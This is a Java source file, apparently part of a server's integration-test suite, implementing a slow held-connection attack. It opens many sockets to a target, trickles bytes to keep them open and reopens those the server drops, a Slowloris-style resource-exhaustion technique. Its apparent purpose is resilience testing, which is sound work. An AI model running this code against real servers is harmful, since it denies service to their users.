package io.carillon.it.attack;

import java.io.IOException;
import java.net.ConnectException;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.List;

/**
 * Connections that are opened and held: each gets some bytes at first and then one more now and
 * then, and nothing that the server sends is read; or they are looked at now and then, and opened
 * anew where the server closed them.
 */
final class HeldConnections extends Attack {
    private final int connections;
    private final byte[] first;
    private final int trickleMillis;
    private final byte[] trickle;

    /**
     * @param connections held at a time
     * @param first sent at once on each
     * @param trickleMillis between two trickles to all of them; 0: nothing more is sent
     * @param trickle empty: it is only seen which are closed
     */
    HeldConnections(
            String id,
            String what,
            Door door,
            int connections,
            byte[] first,
            int trickleMillis,
            byte[] trickle) {
        super(id, what, door);
        this.connections = connections;
        this.first = first.clone();
        this.trickleMillis = trickleMillis;
        this.trickle = trickle.clone();
    }

    @Override
    long run(Target target, long untilNanos) throws IOException {
        List<SocketChannel> held = new ArrayList<>();
        long opened = 0;
        try {
            // Within two seconds all are there; then the lost ones are replaced.
            Pace pace = new Pace(Math.max(100, connections / 2), untilNanos);
            long nextNanos = System.nanoTime();
            for (int due = pace.due(); due >= 0; due = pace.due()) {
                for (int i = 0; i < due && held.size() < connections; i++) {
                    open(target, held, opened++);
                }
                if (trickleMillis > 0 && System.nanoTime() - nextNanos >= 0) {
                    nextNanos += trickleMillis * 1_000_000L;
                    held.removeIf(channel -> !goesOn(channel));
                }
            }
            return opened;
        } finally {
            for (SocketChannel channel : held) {
                channel.close();
            }
        }
    }

    private void open(Target target, List<SocketChannel> held, long number) throws IOException {
        try {
            SocketChannel channel = target.connection((int) (number % 250), door());
            if (first.length == 0 || write(channel, first)) {
                held.add(channel);
            } else {
                channel.close();
            }
        } catch (ConnectException refused) {
            return; // what the server does to an attacker
        }
    }

    private boolean goesOn(SocketChannel channel) {
        return trickle.length == 0 ? isOpen(channel) : write(channel, trickle);
    }

    private static boolean isOpen(SocketChannel channel) {
        try {
            ByteBuffer said = ByteBuffer.allocate(1_024);
            int got;
            while ((got = channel.read(said)) > 0) {
                said.clear();
            }
            if (got == 0) {
                return true;
            }
            channel.close();
            return false;
        } catch (IOException closedByServer) {
            return false;
        }
    }

    private static boolean write(SocketChannel channel, byte[] bytes) {
        try {
            channel.write(ByteBuffer.wrap(bytes));
            return true;
        } catch (IOException closedByServer) {
            return false;
        }
    }
}
